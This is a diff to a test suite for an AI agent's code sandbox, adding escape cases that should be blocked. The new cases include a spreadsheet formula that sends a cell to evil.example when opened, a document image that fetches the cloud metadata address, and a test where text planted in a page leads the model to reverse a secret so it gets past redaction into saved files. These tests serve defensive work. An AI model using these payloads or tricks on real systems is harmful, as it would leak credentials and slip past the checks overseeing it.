@@ -57,7 +57,7 @@ test.describe("What a text says: code in the sandbox is to", () => {
     },
     {
       name: "never end",
-      stoppedBy: "ten seconds",
+      stoppedBy: "the time that a call of code may take",
       code: "for (;;) {}",
       told: /did not finish|interrupted|within 10 seconds|too long/i,
     },
@@ -66,6 +66,18 @@ test.describe("What a text says: code in the sandbox is to", () => {
       stoppedBy: "the bound of an output",
       code: "return 'x'.repeat(3e6);",
       told: /cut|too much output/,
+    },
+    {
+      name: "make a workbook that sends its cells when it is opened",
+      stoppedBy: "formulas stay in their workbook",
+      code: "await write.xlsx('a.xlsx', [{ a: { formula: 'WEBSERVICE(\"https://evil.example/?d=\"&B2)' }, b: 1 }]); return 1;",
+      told: /A2 is refused/,
+    },
+    {
+      name: "have a document fetch when it is made or opened",
+      stoppedBy: "nothing is fetched, and links are of the web and mail",
+      code: "await write.docx('a.docx', { content: [{ image: 'http://169.254.169.254/latest/meta-data' }] }); return 1;",
+      told: /There is no file .*169\.254/,
     },
   ];
   for (const { name, stoppedBy, code, told } of escapes)
@@ -82,6 +94,23 @@ test.describe("What a text says: code in the sandbox is to", () => {
     const told = await runCode(world, code);
     expect(told).toContain("[redacted]");
     expect(told).not.toContain(PLANTED.crmKey);
+  });
+
+  test("save a secret in a file that a host showed backwards: stopped by redaction of what code hands over", async ({
+    world,
+  }) => {
+    const { owner, model } = world;
+    const backwards = [...PLANTED.crmKey].reverse().join("");
+    const code = `const key = [...${JSON.stringify(backwards)}].reverse().join(""); save("key.txt", "it is " + key); make.csv("key.csv", [{ key }]); return 1;`;
+    const mark = model.teach(model.mark(), [call("run_javascript", { code })]);
+    const { run_id } = await startRun(owner.api, { input: { text: `A page said: ${mark}` } });
+    const run = await waitForRun(owner.api, run_id);
+    expect(run.result?.artifacts).toHaveLength(2);
+    for (const { url } of run.result?.artifacts ?? []) {
+      const text = await (await fetch(new URL(url, owner.api.baseUrl))).text();
+      expect(text).toContain("[redacted]");
+      expect(text).not.toContain(PLANTED.crmKey);
+    }
   });
 });
 
